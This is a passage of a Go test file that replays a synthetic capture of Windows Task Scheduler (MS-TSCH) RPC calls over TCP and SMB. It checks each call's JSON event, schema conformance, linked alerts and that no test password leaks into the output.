		for n, iface := range ocIfaces() {
			fid := s.create("atsvc", byte(n+1))
			bind := next()
			s.write(fid, ocBind(bind, 4280, []ocCtxElem{{0, ocSyntax(t, iface.uuid, 1, 0), [][]byte{ndrSyn}}}))
			s.read(fid, ocBindAck(bind, 4280, `\PIPE\atsvc`, accept(ndrSyn)))
			for i, cs := range iface.cases {
				call := addCall(iface, cs, next(), "ncacn_np", "NDR")
				frags := ocRequest(call.id, 0, call.opnum, ocMarshal(t, false, cs.req), 4256)
				call.fragments = len(frags)
				resp := ocResponse(call.id, 0, ocMarshal(t, false, cs.resp))
				if i%2 == 1 && len(frags) == 1 {
					s.transceive(fid, frags[0], resp)
					continue
				}
				for _, fr := range frags {
					s.write(fid, fr)
				}
				s.read(fid, resp)
			}
			s.closeFile(fid)
		}
		s.f.close()
	}
	c.write(path)
	return calls
}

// ocLookup follows a dotted path through decoded JSON.
func ocLookup(v any, path string) (any, bool) {
	for _, k := range strings.Split(path, ".") {
		switch x := v.(type) {
		case map[string]any:
			var ok bool
			if v, ok = x[k]; !ok {
				return nil, false
			}
		case []any:
			i, err := strconv.Atoi(k)
			if err != nil || i < 0 || i >= len(x) {
				return nil, false
			}
			v = x[i]
		default:
			return nil, false
		}
	}
	return v, true
}

// TestOpnumCapture runs every MS-TSCH opnum through a capture: NDR over
// ncacn_ip_tcp and over \PIPE\atsvc, some in NDR64, a request in several TCP
// segments and DCE-RPC fragments, a fault and an unanswered call.
func TestOpnumCapture(t *testing.T) {
	pcap := filepath.Join(t.TempDir(), "opnums.pcap")
	calls := ocBuild(t, pcap)
	raw, err := os.ReadFile(pcap)
	if err != nil {
		t.Fatal(err)
	}
	for _, pw := range []string{ocPassword, ocPassword2} {
		// The secrets are on the wire (UTF-16LE in the stubs), so their
		// absence from the output below means something.
		if !bytes.Contains(raw, ocUTF16(pw)) {
			t.Fatalf("capture lacks the password %q", pw)
		}
	}
	lines := replayLines(t, Options{}, pcap)

	// Every opnum's tsch object is held to docs/event.schema.json too.
	schema := loadSchema(t)
	for i, l := range lines {
		v, err := decodeLine(l)
		if err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		for _, e := range schema.validate(schema, "$", v) {
			t.Errorf("line %d: %s", i+1, e)
		}
	}

	events := map[string]map[string]any{} // transport/call id → event
	alerts := map[string]map[string]any{} // rule/transport/call id → alert
	for _, l := range lines {
		if strings.Contains(l, ocPassword) || strings.Contains(l, ocPassword2) {
			t.Errorf("a password reached the output: %s", l)
		}
		var ev map[string]any
		if err := json.Unmarshal([]byte(l), &ev); err != nil {
			t.Fatal(err)
		}
		kind, _ := ocLookup(ev, "event.kind")
		tr, _ := ocLookup(ev, "dcerpc.transport")
		id, _ := ocLookup(ev, "dcerpc.call_id")
		key := fmt.Sprintf("%v/%v", tr, id)
		switch kind {
		case "event":
			if events[key] != nil {
				t.Errorf("two events for %s", key)
			}
			events[key] = ev
		case "alert":
			rule, _ := ocLookup(ev, "rule.id")
			alerts[fmt.Sprintf("%v/%s", rule, key)] = ev
		}
	}
	if len(events) != len(calls) {
		t.Errorf("%d events for %d calls", len(events), len(calls))
	}

	covered := map[string]bool{}
	for _, c := range calls {
		t.Run(fmt.Sprintf("%s/%s/%s/%d", c.transport, c.syntax, c.op, c.id), func(t *testing.T) {
			ev := events[fmt.Sprintf("%s/%d", c.transport, c.id)]
			if ev == nil {
				t.Fatal("no event")
			}
			want := map[string]any{
				"event.kind": "event", "event.action": c.op, "event.outcome": c.outcome,
				"dcerpc.interface.name": c.iface, "dcerpc.operation": c.op, "dcerpc.opnum": c.opnum,
				"dcerpc.transport": c.transport, "dcerpc.transfer_syntax": c.syntax,
				"dcerpc.fragments.request": c.fragments, "tsch.operation": c.op,
			}
			if c.transport == "ncacn_np" {
				want["smb.pipe"] = "atsvc"
				want["smb.tree"] = `\\10.99.0.2\IPC$`
			}
			if c.fault != "" {
				want["dcerpc.fault"] = c.fault
			}
			for k, v := range c.want {
				want[k] = v
			}
			for k, v := range want {
				got, ok := ocLookup(ev, k)
				gj, _ := json.Marshal(got)
				wj, _ := json.Marshal(v)
				if !ok || !bytes.Equal(gj, wj) {
					t.Errorf("%s = %s, want %s", k, gj, wj)
				}
			}
			if c.alert != "" {
				a := alerts[fmt.Sprintf("%s/%s/%d", c.alert, c.transport, c.id)]
				if a == nil {
					t.Errorf("no %s alert", c.alert)
				} else if rel, _ := ocLookup(a, "related.events.0"); rel != ev["event"].(map[string]any)["id"] {
					t.Errorf("%s alert relates %v, not the event", c.alert, rel)
				}
			}
			if c.fault == "" && c.outcome != "unknown" {
				covered[c.iface+"/"+strconv.Itoa(int(c.opnum))+"/"+c.transport] = true
			}
		})
	}
	// Every opnum answered normally on both transports.
	for _, iface := range ocIfaces() {
		for _, tr := range []string{"ncacn_ip_tcp", "ncacn_np"} {
			for op := range iface.cases {
				if !covered[iface.name+"/"+strconv.Itoa(op)+"/"+tr] {
					t.Errorf("%s opnum %d over %s not covered", iface.name, op, tr)
				}
			}
		}
	}
}
